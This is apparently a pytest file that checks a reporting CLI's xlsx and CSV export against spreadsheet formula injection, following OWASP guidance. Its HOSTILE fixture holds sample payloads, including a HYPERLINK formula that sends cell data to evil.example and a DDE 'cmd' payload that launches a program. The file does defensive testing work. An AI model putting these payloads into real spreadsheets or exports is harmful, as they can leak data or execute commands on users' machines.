"""Spreadsheet injection: record text exported to xlsx or CSV is shown, never evaluated."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from analysis_tree import report, write_tree
from barrier_cli.reports.export.writers import neutralise
from cli_helpers import barrier

# What OWASP lists as the start of a formula, each in a different field a reporter types.
HOSTILE = {
    "summary": '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "location": "+cmd|' /C calc'!A0",
    "train": "-2+3",
    "vehicle": "@SUM(1+1)",
    "details": "\t=1+1",
}


@pytest.fixture
def root(tmp_path: Path) -> Path:
    return write_tree(tmp_path / "records", reports=[report("2026-10-02", "mem1", **HOSTILE)])


def run_export(root: Path, out: Path, fmt: str) -> None:
    result = barrier(root, "export", "--format", fmt, "--out", str(out))
    assert result.returncode == 0, result.stderr


def test_xlsx_formula_never_live(root: Path, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    run_export(root, tmp_path, "xlsx")
    book = load_workbook(tmp_path / "barrier.xlsx")
    assert [c for s in book for row in s.iter_rows() for c in row if c.data_type == "f"] == []
    sheet = book["reports"]
    cells = {h.value: c for h, c in zip(sheet[1], sheet[2], strict=True)}
    for field, text in HOSTILE.items():
        assert (cells[field].value, cells[field].data_type) == (text, "s"), field


def test_csv_formula_neutralised(root: Path, tmp_path: Path) -> None:
    run_export(root, tmp_path, "csv")
    text = (tmp_path / "reports.csv").read_bytes().decode("utf-8-sig")
    (row,) = list(csv.DictReader(text.splitlines(keepends=True)))
    for field, typed in HOSTILE.items():
        assert row[field] == "'" + typed, field  # OWASP: a quote first, the text unchanged
    starts = {cell[:1] for cell in row.values() if cell}
    assert not starts & {"=", "+", "-", "@", "\t", "\r"}


def test_csv_neutralises_a_carriage_return_too() -> None:
    # No record text gets here with a \r (the loader refuses it), but OWASP lists it.
    assert neutralise("\r=1+1") == "'\r=1+1" and neutralise("a=1") == "a=1"


def test_csv_leaves_dates_and_numbers_alone(root: Path, tmp_path: Path) -> None:
    run_export(root, tmp_path, "csv")
    (row,) = list(csv.DictReader((tmp_path / "reports.csv").read_text("utf-8-sig").splitlines()))
    assert row["date"] == "2026-10-02" and row["commend"] == "false"
